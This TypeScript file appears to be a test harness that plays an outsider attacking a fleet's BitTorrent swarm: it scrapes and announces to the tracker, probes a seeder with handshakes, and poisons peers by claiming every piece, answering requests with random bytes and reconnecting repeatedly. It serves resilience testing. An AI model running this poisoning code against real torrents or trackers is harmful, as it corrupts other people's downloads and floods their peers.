/**
 * An outsider on the fleet's network, speaking just enough BitTorrent to cause trouble: it learned
 * the tracker and the info hash (both are in the action's log). It can scrape and announce to the
 * tracker, knock on a peer's port with a handshake, and poison: claim every piece and answer every
 * request with random bytes, reconnecting whenever it is dropped.
 *
 * Used by the unit tests (imported) and on the fleet (run in an outsider's namespace):
 *   node --import tsx intruder.ts probe  <announce-url> <info-hash> <seeder-host> <seeder-port>
 *   node --import tsx intruder.ts poison <announce-url> <info-hash> <seconds> <connections-per-peer>
 * Each prints one JSON line.
 */
import { randomBytes } from 'node:crypto'
import * as http from 'node:http'
import * as net from 'node:net'
import * as os from 'node:os'
import { pathToFileURL } from 'node:url'

const PROTOCOL = Buffer.from('\x13BitTorrent protocol', 'latin1')
/** Claimed pieces: more than any test torrent has (a peer reads only the bits of its own pieces). */
const CLAIMED_PIECES = 8192

export function handshake(infoHash: Buffer, peerId: Buffer = randomBytes(20)): Buffer {
  return Buffer.concat([PROTOCOL, Buffer.alloc(8), infoHash, peerId])
}

function message(id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(5)
  head.writeUInt32BE(payload.length + 1, 0)
  head.writeUInt8(id, 4)
  return Buffer.concat([head, payload])
}

/** What a poisoning connection saw: did the peer answer the handshake, how many garbage blocks went out. */
export interface PoisonedConnection {
  peer: string
  /** The TCP connection was made (else nobody listened: the peer was gone). */
  reached: boolean
  answered: boolean
  blocksSent: number
  /** Which of the parallel connections to the peer this was, and its attempt in that slot (in order). */
  slot?: number
  attempt?: number
}

/**
 * Speaks as a seed on `socket` (already connected, either way): handshake, all pieces claimed,
 * unchoked, and every request answered with random bytes. Resolves when the socket closes.
 */
export function poisonOn(socket: net.Socket, infoHash: Buffer | undefined, peer: string): Promise<PoisonedConnection> {
  const seen: PoisonedConnection = { peer, reached: !socket.connecting, answered: false, blocksSent: 0 }
  socket.once('connect', () => (seen.reached = true))
  let buffered = Buffer.alloc(0)
  let handshaken = false
  const start = (hash: Buffer): void => {
    socket.write(Buffer.concat([handshake(hash), message(5, Buffer.alloc(CLAIMED_PIECES / 8, 0xff)), message(1)]))
  }
  if (infoHash !== undefined) {
    if (socket.connecting) socket.once('connect', () => start(infoHash))
    else start(infoHash)
  }
  socket.on('data', (chunk: Buffer) => {
    buffered = Buffer.concat([buffered, chunk])
    if (!handshaken) {
      if (buffered.length < 68) return
      handshaken = true
      seen.answered = true
      if (infoHash === undefined) start(buffered.subarray(28, 48))
      buffered = buffered.subarray(68)
    }
    while (buffered.length >= 4) {
      const length = buffered.readUInt32BE(0)
      if (buffered.length < 4 + length) return
      const body = buffered.subarray(4, 4 + length)
      buffered = buffered.subarray(4 + length)
      if (length === 13 && body[0] === 6) {
        const index = body.readUInt32BE(1)
        const begin = body.readUInt32BE(5)
        const size = Math.min(body.readUInt32BE(9), 1 << 17)
        const header = Buffer.alloc(8)
        header.writeUInt32BE(index, 0)
        header.writeUInt32BE(begin, 4)
        socket.write(message(7, Buffer.concat([header, randomBytes(size)])))
        seen.blocksSent++
      }
    }
  })
  return new Promise((resolve) => {
    socket.on('error', () => {})
    socket.on('close', () => resolve(seen))
  })
}

/** A poisoning peer that others dial (added to their torrents by address). */
export async function startPoisoner(host: string): Promise<{ port: number; connections: Promise<PoisonedConnection>[]; close(): void }> {
  const connections: Promise<PoisonedConnection>[] = []
  const sockets = new Set<net.Socket>()
  const server = net.createServer((socket) => {
    sockets.add(socket)
    connections.push(poisonOn(socket, undefined, `${socket.remoteAddress}:${socket.remotePort}`))
  })
  await new Promise<void>((resolve) => server.listen(0, host, () => resolve()))
  return {
    port: (server.address() as net.AddressInfo).port,
    connections,
    close() {
      for (const socket of sockets) socket.destroy()
      server.close()
    },
  }
}

/** Connects to host:port and sends a handshake: 'answered' when a handshake comes back, 'refused' when the peer closes first. */
export function knock(host: string, port: number, infoHash: Buffer, localAddress?: string): Promise<'answered' | 'refused'> {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, localAddress })
    let received = 0
    socket.on('connect', () => socket.write(handshake(infoHash)))
    socket.on('data', (chunk: Buffer) => {
      received += chunk.length
      if (received >= 68) {
        socket.destroy()
        resolve('answered')
      }
    })
    socket.on('error', () => {})
    socket.on('close', () => resolve('refused'))
  })
}

function httpGet(url: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve) => {
    http
      .get(url, (response) => {
        let body = ''
        response.setEncoding('latin1')
        response.on('data', (chunk: string) => (body += chunk))
        response.on('end', () => resolve({ status: response.statusCode ?? 0, body }))
      })
      .on('error', (error) => resolve({ status: 0, body: error.message }))
  })
}

/** Announces as a seed listening on `port`; returns the tracker's body (latin1) and the peers it lists. */
export async function announce(announceUrl: string, infoHash: Buffer, port: number): Promise<{ body: string; peers: string[] }> {
  const escape = (bytes: Buffer): string => [...bytes].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
  const query = `info_hash=${escape(infoHash)}&peer_id=${escape(randomBytes(20))}&port=${port}&uploaded=0&downloaded=0&left=0&compact=1&event=started&numwant=200`
  const { body } = await httpGet(`${announceUrl}?${query}`)
  const peers: string[] = []
  const at = body.indexOf('5:peers')
  const match = at >= 0 ? /^5:peers(\d+):/.exec(body.slice(at)) : null
  if (match) {
    const compact = Buffer.from(body.slice(at + match[0].length, at + match[0].length + Number(match[1])), 'latin1')
    for (let offset = 0; offset + 6 <= compact.length; offset += 6) {
      peers.push(`${compact[offset]}.${compact[offset + 1]}.${compact[offset + 2]}.${compact[offset + 3]}:${compact.readUInt16BE(offset + 4)}`)
    }
  }
  return { body, peers }
}

/** Dials `peer` again and again (each time it is dropped), `count` connections at once, until `until`. */
async function poisonPeer(peer: string, infoHash: Buffer, count: number, until: number): Promise<PoisonedConnection[]> {
  const [host, port] = [peer.slice(0, peer.lastIndexOf(':')), Number(peer.slice(peer.lastIndexOf(':') + 1))]
  const seen: PoisonedConnection[] = []
  await Promise.all(
    Array.from({ length: count }, async (_, slot) => {
      for (let attempt = 0; attempt < 500 && Date.now() < until; attempt++) {
        const socket = net.connect({ host, port })
        const timer = setTimeout(() => socket.destroy(), Math.max(0, until - Date.now()))
        seen.push({ ...(await poisonOn(socket, infoHash, peer)), slot, attempt })
        clearTimeout(timer)
        await new Promise((resolve) => setTimeout(resolve, 200))
      }
    }),
  )
  return seen
}

/**
 * Per peer: connections tried, answered, refused (taken, then closed before any handshake: the
 * peer's own refusal), unreachable (nobody listening: the peer had exited), garbage blocks sent,
 * and slots where it was let back in after a refusal.
 */
export interface PeerOutcome {
  connections: number
  answered: number
  refused: number
  unreachable: number
  blocksSent: number
  letBackIn: number
}

function summarize(connections: PoisonedConnection[]): Record<string, PeerOutcome> {
  const byPeer: Record<string, PeerOutcome> = {}
  for (const peer of new Set(connections.map((connection) => connection.peer))) {
    const all = connections.filter((connection) => connection.peer === peer)
    const mine = all.filter((connection) => connection.reached)
    let letBackIn = 0
    for (const slot of new Set(mine.map((connection) => connection.slot))) {
      const inOrder = mine.filter((connection) => connection.slot === slot).sort((a, b) => (a.attempt ?? 0) - (b.attempt ?? 0))
      const firstRefused = inOrder.findIndex((connection) => !connection.answered)
      if (firstRefused >= 0 && inOrder.slice(firstRefused).some((connection) => connection.answered)) letBackIn++
    }
    byPeer[peer] = {
      connections: all.length,
      unreachable: all.length - mine.length,
      answered: mine.filter((connection) => connection.answered).length,
      refused: mine.filter((connection) => !connection.answered).length,
      blocksSent: mine.reduce((sum, connection) => sum + connection.blocksSent, 0),
      letBackIn,
    }
  }
  return byPeer
}

async function main(argv: string[]): Promise<void> {
  const [mode, announceUrl, infoHashHex] = argv
  const infoHash = Buffer.from(infoHashHex!, 'hex')
  if (mode === 'probe') {
    const [, , , seederHost, seederPort] = argv
    const scrapeUrl = announceUrl!.replace(/\/announce$/, '/scrape')
    const scrape = await httpGet(scrapeUrl)
    const scrapeOurs = await httpGet(`${scrapeUrl}?info_hash=${[...infoHash].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}`)
    const announced = await announce(announceUrl!, infoHash, 6881)
    const seeder = await knock(seederHost!, Number(seederPort), infoHash)
    console.log(JSON.stringify({ scrape: scrape.status, scrapeOurs: scrapeOurs.status, scrapeBody: scrape.body.slice(0, 200), announce: announced.body.slice(0, 200), peers: announced.peers, seeder }))
  } else if (mode === 'poison') {
    const [, , , seconds, perPeer] = argv
    const until = Date.now() + Number(seconds) * 1000
    const known = new Set<string>()
    const ownAddresses = new Set(Object.values(os.networkInterfaces()).flatMap((list) => (list ?? []).map((entry) => entry.address)))
    const attacks: Promise<PoisonedConnection[]>[] = []
    // Keep asking the tracker: hosts join as their agents start.
    for (let round = 0; round < 100 && Date.now() < until; round++) {
      for (const peer of (await announce(announceUrl!, infoHash, 6881)).peers) {
        if (known.has(peer) || ownAddresses.has(peer.slice(0, peer.lastIndexOf(':')))) continue
        known.add(peer)
        attacks.push(poisonPeer(peer, infoHash, Number(perPeer), until))
      }
      await new Promise((resolve) => setTimeout(resolve, 500))
    }
    console.log(JSON.stringify({ peers: [...known], byPeer: summarize((await Promise.all(attacks)).flat()) }))
  } else throw new Error(`unknown mode ${mode}`)
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  main(process.argv.slice(2)).then(
    () => process.exit(0),
    (error: Error) => {
      console.error(error.stack)
      process.exit(1)
    },
  )
}
